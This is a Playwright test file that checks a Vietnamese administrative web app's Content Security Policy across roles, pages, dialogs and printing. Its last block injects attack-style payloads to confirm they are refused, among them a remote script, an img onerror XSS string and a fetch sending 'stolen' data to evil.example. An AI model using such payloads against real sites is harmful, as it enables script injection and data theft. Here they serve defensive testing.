import { expect, test, type Page } from '@playwright/test';
import { signIn, signOut } from '../support/people.ts';
import { watchPolicy } from '../support/policy.ts';

/** Every screen, as somebody who is led to it. */
const PAGES: Readonly<Record<string, readonly string[]>> = {
  'officer.sxd': ['/', '/register', '/reports', '/calendar', '/documents', '/agencies', '/mailbox'],
  'head.stc': ['/'],
  coordinator: ['/matrix', '/matrix?status=overdue', '/queue', '/reports', '/reminders'],
  'head.qhc': ['/desk'],
  leader: ['/'],
  admin: ['/people', '/audit'],
};

const settled = async (page: Page): Promise<void> => {
  await expect(page.locator('#page-title').first()).toBeVisible();
  await expect(page.getByRole('status', { name: 'Đang tải' })).toHaveCount(0);
};

for (const [account, paths] of Object.entries(PAGES)) {
  test(`${account}: every page keeps to its policy`, async ({ page }) => {
    const seen = await watchPolicy(page);
    await signIn(page, account);
    for (const path of paths) {
      await page.goto(path);
      await settled(page);
      // The command palette, over every page.
      await page.keyboard.press('Control+k');
      await expect(page.getByRole('dialog').first()).toBeVisible();
      await page.keyboard.press('Escape');
      await page.emulateMedia({ media: 'print' });
      await page.emulateMedia({ media: null });
    }
    expect(seen).toEqual([]);
  });
}

test('drawers, dialogs, a mail and printing keep to it', async ({ page }) => {
  const seen = await watchPolicy(page);
  await signIn(page, 'officer.sxd');
  await page.goto('/register');
  await settled(page);
  await page.getByRole('button', { name: /Nhập/ }).first().click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.press('Escape');
  const home = (await (await page.request.get('/api/home')).json()) as { agency: { report: { id: string } } };
  await page.goto(`/reports/${home.agency.report.id}`);
  await settled(page);
  await page.evaluate(() => print());
  await page.goto('/mailbox?q=hạn');
  await settled(page);
  await page.getByRole('main').getByRole('rowheader').getByRole('button').first().click();
  const letter = page.frameLocator('iframe');
  await expect(letter.locator('body')).toHaveCSS('padding-top', '16px');
  await expect(letter.locator('th').first()).toHaveCSS('background-color', 'rgb(238, 241, 245)');
  await signOut(page);

  await signIn(page, 'coordinator');
  await page.goto('/matrix');
  await settled(page);
  await page.getByRole('gridcell').or(page.getByRole('cell')).getByRole('button').first().click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.press('Escape');
  expect(seen).toEqual([]);
});

test('the description of the API keeps to its own', async ({ page }) => {
  const seen = await watchPolicy(page);
  await page.goto('/api/docs');
  await expect(page.locator('.opblock').first()).toBeVisible();
  expect(seen).toEqual([]);
});

test.describe('what the policy is for', () => {
  const INJECTED: Readonly<Record<string, { inject: () => unknown; blocked: RegExp }>> = {
    'a script element': { inject: () => document.head.append(Object.assign(document.createElement('script'), { textContent: 'globalThis.harmed = true' })), blocked: /trusted-types/ },
    'a script from elsewhere': { inject: () => document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })), blocked: /trusted-types/ },
    'a style sheet': {
      inject: () => {
        const style = document.createElement('style');
        style.append('body{outline:99px solid red}');
        document.head.append(style);
      },
      blocked: /style-src/,
    },
    'a style attribute': { inject: () => document.body.setAttribute('style', 'outline:99px solid red'), blocked: /style-src/ },
    'markup as text': { inject: () => (document.body.innerHTML = '<img src=x onerror="globalThis.harmed = true">'), blocked: /trusted-types/ },
    'code of text': { inject: () => setTimeout(() => (Reflect.construct(Function, ['globalThis.harmed = true']) as () => void)(), 0), blocked: /trusted-types|script-src/ },
    'a message home': { inject: () => fetch('https://evil.example/?stolen').catch(() => undefined), blocked: /connect-src/ },
    'a picture from elsewhere': { inject: () => document.body.append(Object.assign(new Image(), { src: 'https://evil.example/p.png' })), blocked: /img-src/ },
    'another base': { inject: () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })), blocked: /base-uri/ },
  };
  for (const [what, { inject, blocked }] of Object.entries(INJECTED)) {
    test(`${what} is refused`, async ({ page }) => {
      const seen = await watchPolicy(page);
      await page.goto('/sign-in');
      await expect(page.getByRole('button', { name: 'Đăng nhập', exact: true })).toBeVisible();
      await page.evaluate(inject).catch(() => undefined);
      await expect.poll(() => seen.some((one) => blocked.test(one))).toBe(true);
      expect(await page.evaluate(() => [(globalThis as { harmed?: boolean }).harmed, getComputedStyle(document.body).outlineWidth === '99px'])).toEqual([undefined, false]);
    });
  }
});
